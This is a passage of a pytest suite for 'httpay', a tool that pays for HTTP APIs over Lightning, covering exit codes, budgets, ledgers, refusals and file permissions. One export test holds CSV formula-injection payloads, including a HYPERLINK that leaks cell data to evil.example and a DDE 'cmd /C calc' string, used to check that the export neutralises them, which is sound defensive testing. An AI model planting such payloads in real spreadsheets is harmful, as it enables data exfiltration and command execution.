    assert ran.code == 2 and f"-o {out}" in ran.err and "Traceback" not in ran.err, ran.err
    assert wallet.calls == [] and not ledger.exists()


def test_a_paid_body_that_cannot_be_written_goes_to_stdout_and_says_it_was_paid(
        cli: Callable[..., Ran], svc: HostileService, wallet: CountingWallet, ledger: Path, tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    out = tmp_path / "body.json"
    real_open = open

    def full_disk(path: Any, mode: str = "r", *a: Any, **kw: Any) -> Any:
        if str(path) == str(out) and "w" in mode:
            raise OSError(28, "No space left on device")
        return real_open(path, mode, *a, **kw)

    monkeypatch.setattr("builtins.open", full_disk)
    ran = cli("get", svc.classic(), "-o", str(out), "--ledger", str(ledger))
    assert ran.code == 1 and '"served":true' in ran.out, ran.err
    assert "could not be written to" in ran.err and "No space left on device" in ran.err and "it was paid for" in ran.err
    assert wallet.paid == 1


def test_help_documents_the_exit_codes_and_the_defaults() -> None:
    out = io.StringIO()
    with contextlib.redirect_stdout(out), pytest.raises(SystemExit):
        main(["--help"])
    text = " ".join(out.getvalue().split())
    for want in ("exit codes", "0 success", "2 usage", "3 refused", "4 the payment failed", "5 network",
                 "1,000 sat per payment", "50,000 sat per day"):
        assert want in text, want


# -- 13. read-only commands never create a ledger -----------------------------------------------------------
READ_ONLY = [
    ["ledger", "--ledger", "{missing}"],
    ["ledger", "--ledger", "{missing}", "--json"],
    ["ledger", "reconcile", "--ledger", "{missing}"],
    ["budget", "--ledger", "{missing}"],
    ["approvals", "--ledger", "{missing}"],
    ["approvals", "list", "--approvals", "{missing}"],
    ["approvals", "approve", "1", "--ledger", "{missing}"],
    ["dashboard", "--ledger", "{missing}", "--port", "0"],
]


@pytest.mark.parametrize("args", READ_ONLY, ids=[" ".join(a[:2]) for a in READ_ONLY])
def test_read_only_commands_never_create_a_ledger(args: list[str], cli: Callable[..., Ran], tmp_path: Path,
                                                  wallet: CountingWallet) -> None:
    missing = tmp_path / "typo" / "ledgr.sqlite3"
    ran = cli(*[a.replace("{missing}", str(missing)) for a in args])
    assert ran.code == 1 and str(missing) in ran.err and "does not exist" in ran.err, ran.err
    assert "Traceback" not in ran.err and not missing.exists() and not missing.parent.exists()
    assert wallet.calls == []


def test_read_only_commands_name_the_environment_variable(cli: Callable[..., Ran], tmp_path: Path) -> None:
    missing = tmp_path / "nope.sqlite3"
    ran = cli("budget", env={"HTTPAY_LEDGER": str(missing)})
    assert ran.code == 1 and str(missing) in ran.err and "HTTPAY_LEDGER" in ran.err and not missing.exists()


def test_budget_shows_the_defaults_and_unlimited(cli: Callable[..., Ran], ledger: Path, tmp_path: Path) -> None:
    prefill(ledger, (100, timedelta(minutes=1)))
    shown = cli("budget", "--ledger", str(ledger))
    assert shown.code == 0 and "default limits apply" in shown.out
    for want in ("default per payment", "default hourly", "default daily", "10,000", "9,900"):
        assert want in shown.out, want
    data = json.loads(cli("budget", "--ledger", str(ledger), "--json").out)
    assert data["unlimited"] is False and {b["name"] for b in data["limits"]} == {
        "default per payment", "default hourly", "default daily"}
    free = cli("budget", "--ledger", str(ledger), "--policy", _policy_file(tmp_path, "default_limits = false\n"))
    assert free.code == 0 and "unlimited" in free.out and "default_limits = false" in free.out


# -- 15. advice names the knob of the surface; a refusal is printed once ---------------------------------
@dataclass(frozen=True)
class AdviceCase:
    name: str
    surface: str                     # "client", "toolbox", "mcp" (Toolbox from the environment)
    price_sat: int
    policy: str | None               # TOML text, or None
    says: str
    max_price_usd: float | None = None
    # what the ledger keeps for the dashboard and every later reader: the setting by its own name
    recorded: str = "raise max_per_payment_sat to pay it"


ADVICE_CASES = [
    AdviceCase("library: the Policy field", "client", 2000, None, "raise Policy(max_per_payment_sat=...) to pay it"),
    AdviceCase("toolbox in Python: the Policy field", "toolbox", 2000, None, "raise Policy(max_per_payment_sat=...)"),
    AdviceCase("toolbox: the tool argument for the request cap", "toolbox", 10, None,
               "raise the max_price_usd argument of fetch", max_price_usd=0.001,
               recorded="raise this request's price cap to pay it"),
    AdviceCase("MCP from a policy file: the file's key", "mcp", 10, "budget_sat = 5\nusd_per_btc = 100000\n",
               "raise budget_sat in the policy file", recorded="; raise budget_sat"),
    AdviceCase("MCP, no policy file: the key and HTTPAY_POLICY", "mcp", 2000, None,
               "raise max_per_payment_sat in a policy file named by HTTPAY_POLICY"),
]


@pytest.mark.parametrize("case", ADVICE_CASES, ids=[c.name for c in ADVICE_CASES])
def test_advice_names_the_knob_of_the_surface(case: AdviceCase, svc: HostileService, wallet: CountingWallet,
                                              ledger: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    url = svc.classic(price_sat=case.price_sat)
    if case.surface == "client":
        out = run("sync", url, wallet=wallet, ledger=ledger)
        assert isinstance(out.error, httpay.PaymentRefused) and case.says in str(out.error)
        assert out.error.render() == str(out.error)
    else:
        if case.surface == "mcp":
            env = {"HTTPAY_WALLET": "demo", "HTTPAY_DEMO_URL": "http://127.0.0.1:9", "HTTPAY_DEMO_KEY": "k" * 16,
                   "HTTPAY_LEDGER": str(ledger)}
            if case.policy is not None:
                (tmp_path / "mcp.toml").write_text(case.policy)
                env["HTTPAY_POLICY"] = str(tmp_path / "mcp.toml")
            monkeypatch.setattr("httpay.config.wallet_from_env", lambda env=None: wallet)
            box = toolbox_from_env(env)
        else:
            box = Toolbox(wallet=wallet, ledger=ledger, policy=httpay.Policy(usd_per_btc=RATE))
        with box:
            text = box.fetch(url, max_price_usd=case.max_price_usd)
        assert text.startswith("refused:") and case.says in text and "Nothing was paid" in text, text
        assert text.count("refused") == 1
    assert wallet.calls == []
    with SQLiteLedger(ledger) as lg:
        assert lg.receipts() == [] and lg.spent_msat() == 0
        [kept] = lg.refusals()
    assert case.recorded in kept.reason and "Policy(" not in kept.reason and "argument" not in kept.reason, kept.reason
    assert kept.rule == ("max_price" if case.max_price_usd else "budget" if "budget" in case.says else "max_per_payment")


def test_a_refusal_is_printed_once_by_the_cli(demo: Any, account: dict[str, str], tmp_path: Path) -> None:
    """Not once by the log and once more by the command (the event log's WARNING line is not repeated)."""
    made = httpx.post(f"{demo.url}/ln/wallets", json={"balance_sat": 1000}).json()
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src"), "COLUMNS": "200", "NO_COLOR": "1", "HTTPAY_WALLET": "demo",
           "HTTPAY_DEMO_URL": demo.url, "HTTPAY_DEMO_KEY": made["key"]}
    env.pop("HTTPAY_POLICY", None)
    p = subprocess.run([sys.executable, "-m", "httpay.apps.cli", "get", f"{demo.url}/ticker/MSFT", "-H",
                        f"Authorization: {account['Authorization']}", "--max-price-sat", "5",
                        "--ledger", str(tmp_path / "l.sqlite3")], capture_output=True, text=True, env=env, timeout=60,
                       check=False)
    assert p.returncode == 3, p.stderr
    assert p.stderr.count("this request's price cap of 5 sat") == 1, p.stderr
    assert "raise --max-price-sat" in p.stderr and "WARNING" not in p.stderr and "Traceback" not in p.stderr
    with SQLiteLedger(tmp_path / "l.sqlite3") as lg:
        assert lg.receipts() == []


def test_open_demo_prints_the_settings_a_shell_pays_with(demo: Any, cli: Callable[..., Ran]) -> None:
    """A newcomer's way to HTTPAY_DEMO_KEY: stdout is only the export line (eval-able), the note goes to stderr."""
    ran = cli("wallet", "open-demo", demo.url, "--balance-sat", "700")
    assert ran.code == 0, ran.err
    line = ran.out.strip()
    assert line.startswith(f"export HTTPAY_WALLET=demo HTTPAY_DEMO_URL={demo.url} HTTPAY_DEMO_KEY=") and "\n" not in line
    assert "700 sat" in ran.err and "no real money" in ran.err
    settings = dict(part.split("=", 1) for part in line.removeprefix("export ").split())
    with httpay.DemoWallet(settings["HTTPAY_DEMO_URL"], settings["HTTPAY_DEMO_KEY"]) as w:
        assert w.balance_msat() == 700_000
        assert settings["HTTPAY_DEMO_KEY"] not in repr(w) + str(w)
    ran = cli("wallet", "balance", env=settings)
    assert ran.code == 0 and "700 sat" in ran.out, ran.err


def test_dropping_every_token_when_none_is_held_says_so(cli: Callable[..., Ran], ledger: Path) -> None:
    SQLiteLedger(ledger).close()
    ran = cli("tokens", "drop", "--all", "--ledger", str(ledger))
    assert ran.code == 0 and "no credentials were held: nothing to drop" in ran.out + ran.err


def test_a_library_refusal_is_not_printed_when_logging_is_not_configured(svc: HostileService, wallet: CountingWallet,
                                                                        ledger: Path) -> None:
    """Python's last-resort handler prints WARNINGs of unconfigured loggers; the raised refusal says it already."""
    script = ("import httpay\n"  # in a child: this process's logging is pytest's
              "w = httpay.DemoWallet('http://127.0.0.1:9', 'k')\n"
              "c = httpay.Client(wallet=w, ledger=':memory:', policy=httpay.Policy(max_per_payment_sat=1))\n"
              f"try:\n    c.get({svc.classic()!r})\nexcept httpay.PaymentRefused as e:\n    print('raised', e.rule)\n")
    p = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=60, check=False,
                       env={**os.environ, "PYTHONPATH": str(ROOT / "src")})
    assert p.stdout.startswith("raised max_per_payment"), p.stdout + p.stderr
    assert p.stderr == "", p.stderr


def test_wallet_without_an_action_lists_the_actions(cli: Callable[..., Ran]) -> None:
    ran = cli("wallet")
    assert ran.code == 2 and "balance" in ran.err and "open-demo" in ran.err


# -- 14. MCP/tool arguments --------------------------------------------------------------------------------
@pytest.mark.parametrize("arguments", [
    '{"url": "/x", "max_price_usd": -1}', '{"url": "/x", "max_price_usd": NaN}',
    '{"url": "/x", "max_price_usd": Infinity}', '{"url": "/x", "max_price_usd": 1e999}',
    '{"url": "/x", "max_price_usd": -' + "9" * 4000 + '}',
])
def test_tool_arguments_refuse_bad_numbers(arguments: str, svc: HostileService, wallet: CountingWallet,
                                           ledger: Path) -> None:
    url = svc.classic()
    with Toolbox(wallet=wallet, ledger=ledger, base_url=svc.url) as box:
        text = dispatch(box, "fetch", arguments.replace("/x", url))
    assert text.startswith("error:") and "max_price_usd" in text and len(text) < 400, text
    assert wallet.calls == [] and svc.hits.get("/classic", 0) == 0


# -- 16. offers reads every dialect the client pays; a 200 is shown and may have used a credit ------------
@dataclass(frozen=True)
class OffersCase:
    name: str
    route: Callable[[HostileService], str]
    cli_says: tuple[str, ...]
    tool_says: tuple[str, ...]
    code: int = 0


OFFERS_CASES = [
    OffersCase("L402 v0.2", lambda s: s.v02(), ("offer_c668e0c0", "asks for payment (l402-v0.2)", "Nothing was paid"),
               ("offer_c668e0c0", "nothing was paid")),
    OffersCase("classic L402", lambda s: s.classic(price_sat=20), ("asks for payment (l402-classic)", "20 sat", "Nothing was paid"),
               ("classic L402", "20 sat", "the policy would pay")),
    OffersCase("x402", lambda s: x402_route(s), ("x402", "Access to weather data", "Nothing was paid"),
               ("x402", "Access to weather data", "no x402 signer is configured")),
    OffersCase("free: the body, and a credit may have been used", lambda s: s.free(body={"quote": 42}),
               ('"quote":42', "no payment asked", "may have used a credit"), ('"quote":42', "may have used a credit")),
]


@pytest.mark.parametrize("case", OFFERS_CASES, ids=[c.name for c in OFFERS_CASES])
def test_offers_reads_every_dialect(case: OffersCase, svc: HostileService, wallet: CountingWallet, ledger: Path,
                                    cli: Callable[..., Ran]) -> None:
    url = case.route(svc)
    ran = cli("offers", url)
    both = ran.out + ran.err
    assert ran.code == case.code and "cannot pay" not in both and "cannot read" not in both, both
    for want in case.cli_says:
        assert want in both, (want, both)
    with Toolbox(wallet=wallet, ledger=ledger, policy=httpay.Policy(usd_per_btc=RATE)) as box:
        text = box.offers(url)
    assert "cannot pay" not in text and "cannot read" not in text, text
    for want in case.tool_says:
        assert want in text, (want, text)
    assert wallet.calls == [] and svc.node.paid == []
    with SQLiteLedger(ledger) as lg:
        assert lg.receipts() == []


def test_offers_saves_a_served_body(svc: HostileService, cli: Callable[..., Ran], tmp_path: Path,
                                    wallet: CountingWallet) -> None:
    target = tmp_path / "body.json"
    ran = cli("offers", svc.free(body={"quote": 7}), "-o", str(target))
    assert ran.code == 0 and json.loads(target.read_text()) == {"quote": 7}
    assert str(target) in ran.err and "may have used a credit" in ran.err and '"quote"' not in ran.out
    assert wallet.calls == []


@pytest.mark.parametrize(("policy", "says"), [
    (None, ("10,000 sat left of the default hourly budget", "at most 1,000 sat per payment (default)",
            "50,000 sat per day (default)")),
    (httpay.Policy.unlimited(), ("unlimited: no spending limit is set (Policy.unlimited())",)),
    (httpay.Policy(budget_sat=500), ("budget left 500 sat of 500 sat", "at most 1,000 sat per payment (default)")),
])
def test_the_budget_tool_shows_the_defaults_and_unlimited(policy: httpay.Policy | None, says: tuple[str, ...],
                                                          wallet: CountingWallet, ledger: Path) -> None:
    with Toolbox(wallet=wallet, ledger=ledger, policy=policy) as box:
        text = box.budget()
    for want in says:
        assert want in text, (want, text)
    assert wallet.calls == []


def test_a_request_cap_refusal_names_the_request_cap(svc: HostileService, wallet: CountingWallet, ledger: Path,
                                                     mode: str) -> None:
    from httpay.core.flow import MAX_PRICE_EXTENSION

    out = run(mode, svc.classic(price_sat=10), wallet=wallet, ledger=ledger,
              request={"extensions": {MAX_PRICE_EXTENSION: 5_000}})
    assert isinstance(out.error, httpay.PaymentRefused) and out.error.rule == "max_price"
    assert out.error.knob == "max_price" and "above this request's price cap of 5 sat" in str(out.error)
    assert "raise the request's price cap (extensions=client.max_price(...))" in str(out.error)
    assert out.wallet_calls == 0 and out.receipts == [] and out.spent_msat == 0


def test_an_invoice_over_the_request_cap_is_refused_by_that_cap_and_kept_for_the_overseer(
        svc: HostileService, wallet: CountingWallet, ledger: Path, mode: str) -> None:
    """The offer fits; its invoice asks more (within the price tolerance) and above this request's
    price cap: refused naming that cap (not a per-payment limit), and kept in the ledger's refusals
    the dashboard shows, as every refusal is."""
    from httpay.core.flow import MAX_PRICE_EXTENSION

    url = svc.v02(invoice_msat=14_000, offers=[{**NOTEBOOK_OFFERS[0], "amount": 1, "currency": "USD"}])
    out = run(mode, url, wallet=wallet, ledger=ledger, request={"extensions": {MAX_PRICE_EXTENSION: 12_000}},
              policy=httpay.Policy(usd_per_btc=RATE, price_tolerance=0.5))
    assert isinstance(out.error, httpay.InvoiceError) and "above this request's price cap of 12 sat" in str(out.error)
    assert out.wallet_calls == 0 and out.receipts == []
    with SQLiteLedger(ledger) as lg:
        [kept] = lg.refusals()
    assert kept.rule == "invoice:amount_above_limit" and "price cap of 12 sat" in kept.reason


@pytest.mark.parametrize("value", ["-5", "nan", "inf", "0", "lots"])
def test_an_environment_rate_refuses_bad_numbers_by_name(value: str) -> None:
    from httpay.config import wallet_from_env

    with pytest.raises(httpay.ConfigError, match="FEWSATS_USD_PER_BTC must be a positive number"):
        wallet_from_env({"HTTPAY_WALLET": "fewsats", "FEWSATS_API_KEY": "k" * 20, "FEWSATS_USD_PER_BTC": value})


def test_the_dashboard_shows_the_defaults_when_no_policy_is_given(ledger: Path) -> None:
    from httpay.apps.dashboard import create_app

    prefill(ledger, (100, timedelta(minutes=1)))
    html = create_app(ledger).state.dashboard.budget_html()
    assert "default per payment" in html and "default hourly" in html and "default daily" in html
    html = create_app(ledger, policy=httpay.Policy.unlimited()).state.dashboard.budget_html()
    assert "unlimited" in html


def test_a_usd_cap_with_no_rate_says_which_knob_gives_one(svc: HostileService, wallet: CountingWallet,
                                                          ledger: Path) -> None:
    url = svc.classic()
    with Toolbox(wallet=wallet, ledger=ledger) as box:
        text = box.fetch(url, max_price_usd=0.05)
    assert text.startswith("error: max_price_usd needs a BTC/USD rate") and "Policy(usd_per_btc=...)" in text
    assert "Nothing was paid" in text and wallet.calls == [] and svc.hits.get("/classic", 0) == 0


def test_the_offers_tool_says_what_fetch_would_pay_with_an_x402_signer(svc: HostileService, wallet: CountingWallet,
                                                                        ledger: Path) -> None:
    from httpay.signers import EvmSigner

    url = x402_route(svc)
    policy = httpay.Policy(methods=["lightning", "x402"], usd_per_btc=RATE)
    client = httpay.Client(wallet=wallet, ledger=ledger, policy=policy, x402_signer=EvmSigner.from_key("0x" + "4c" * 32))
    with Toolbox(client) as box:
        text = box.offers(url)
        assert "the policy would pay" in text and "x402" in text and "cannot" not in text, text
    client.close()
    assert wallet.calls == []
    with SQLiteLedger(ledger) as lg:
        assert lg.receipts() == []  # looking signs nothing and writes nothing


def test_a_new_ledger_is_readable_by_its_owner_only(wallet: CountingWallet, svc: HostileService, tmp_path: Path) -> None:
    """It keeps preimages and reusable tokens (`L402 <macaroon>:<preimage>`): another local user must not read them."""
    path = tmp_path / "ledger.sqlite3"
    with httpay.Client(wallet=wallet, ledger=path) as c:
        assert c.get(svc.classic()).status_code == 200
        files = sorted(tmp_path.iterdir())
        assert [f.name for f in files] == ["ledger.sqlite3", "ledger.sqlite3-shm", "ledger.sqlite3-wal"]
        assert all(f.stat().st_mode & 0o777 == 0o600 for f in files), [oct(f.stat().st_mode) for f in files]


def test_an_empty_file_made_beforehand_becomes_a_private_ledger_and_a_shared_one_is_named(
        wallet: CountingWallet, svc: HostileService, tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    """`touch ledger.sqlite3` first (umask 022: 0644) is not a reason for preimages to be world-readable:
    the empty file becomes the ledger, 0600 like a new one. A ledger already in use that others can
    read keeps its owner's mode, and every open says so with what to run."""
    path = tmp_path / "ledger.sqlite3"
    path.touch(mode=0o644)
    path.chmod(0o644)
    with httpay.Client(wallet=wallet, ledger=path) as c:
        assert c.get(svc.classic()).status_code == 200
    assert all(f.stat().st_mode & 0o777 == 0o600 for f in tmp_path.iterdir()), [oct(f.stat().st_mode) for f in tmp_path.iterdir()]
    assert "can be read by other users" not in caplog.text
    path.chmod(0o644)
    with caplog.at_level("WARNING", logger="httpay"), SQLiteLedger(path):
        pass
    assert "can be read by other users (mode 0o644)" in caplog.text and f"chmod 600 {path}" in caplog.text
    assert path.stat().st_mode & 0o777 == 0o644  # the owner's choice, kept


def test_a_402_that_cannot_be_read_is_a_service_error_with_nothing_paid(cli: Callable[..., Ran], svc: HostileService,
                                                                        wallet: CountingWallet, ledger: Path) -> None:
    async def broken(request: Request) -> Response:
        return Response("", status_code=402, headers={"WWW-Authenticate": 'L402 macaroon="AGIAJEemVQUTEyNCR0exk7ek90Cg==", invoice="lnbc1"'})
    ran = cli("get", svc.route("/broken", broken), "--ledger", str(ledger))
    assert ran.code == 6 and "the service's 402 cannot be read" in ran.err and "nothing was paid" in ran.err, ran.err
    assert wallet.calls == []


def test_a_failed_payment_is_printed_once_by_the_cli_even_with_q(demo: Any, account: dict[str, str],
                                                                  tmp_path: Path) -> None:
    """A wrong demo key: the wallet refuses; the command's one line says so, and no WARNING repeats it."""
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src"), "COLUMNS": "200", "NO_COLOR": "1", "HTTPAY_WALLET": "demo",
           "HTTPAY_DEMO_URL": demo.url, "HTTPAY_DEMO_KEY": "not-a-key"}
    env.pop("HTTPAY_POLICY", None)
    p = subprocess.run([sys.executable, "-m", "httpay.apps.cli", "get", "-q", f"{demo.url}/ticker/MSFT", "-H",
                        f"Authorization: {account['Authorization']}", "--ledger", str(tmp_path / "l.sqlite3")],
                       capture_output=True, text=True, env=env, timeout=60, check=False)
    assert p.returncode == 4, p.stderr
    assert p.stderr.count("payment failed") == 1 and "WARNING" not in p.stderr, p.stderr


def test_the_export_hands_accounting_no_formula_and_the_terminal_no_escape(cli: Callable[..., Ran],
                                                                            tmp_path: Path) -> None:
    """Titles, ids and notes a service wrote: in CSV, one starting like a formula (= + - @, tab, CR)
    is quoted text a spreadsheet never runs, and no control character is written raw (an escape
    sequence would reach the terminal); JSON lines escape them and keep the text exactly."""
    import csv

    path = tmp_path / "l.sqlite3"
    hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"1 Credit")\x1b]0;owned\x07\x1b[2J', "+1+cmd|' /C calc'!A0",
               "-2+3", "@SUM(1)", "\t=1", "\r=1", "  =1"]
    with SQLiteLedger(path) as lg:
        for i, text in enumerate(hostile):
            r = lg.reserve(Intent(host="h.example", url="https://h.example/x", protocol="l402-v0.2", method="lightning",
                                  amount_msat=1_000, payment_hash=f"{i:064x}", offer_id=text, offer_title=text))
            lg.settle(r.id, preimage="ab" * 32, note=text)
    ran = cli("ledger", "export", "--format", "csv", "--ledger", str(path))
    assert ran.code == 0 and not any(ch in ran.out for ch in "\x1b\x07\t\x00"), ran.out
    rows = list(csv.DictReader(io.StringIO(ran.out)))
    assert [r["id"] for r in rows] == [str(i + 1) for i in range(len(hostile))]
    for r in rows:
        assert all(r[k].startswith("'") for k in ("offer_id", "offer_title", "note")), r
    assert rows[0]["offer_title"] == "'" + clean(hostile[0], 1000)
    assert rows[0]["url"] == "https://h.example/x" and rows[0]["amount_msat"] == "1000"  # the rest as it was
    ran = cli("ledger", "export", "--ledger", str(path))
    assert ran.code == 0 and "\x1b" not in ran.out and "\x07" not in ran.out
    assert [json.loads(line)["offer_title"] for line in ran.out.splitlines()] == hostile


def test_exporting_a_ledger_that_does_not_exist_writes_nothing(cli: Callable[..., Ran], tmp_path: Path) -> None:
    missing = tmp_path / "nope.sqlite3"
    ran = cli("ledger", "export", "--format", "csv", "--ledger", str(missing))
    assert ran.code == 1 and ran.out == "" and "does not exist" in ran.err and not missing.exists(), (ran.out, ran.err)
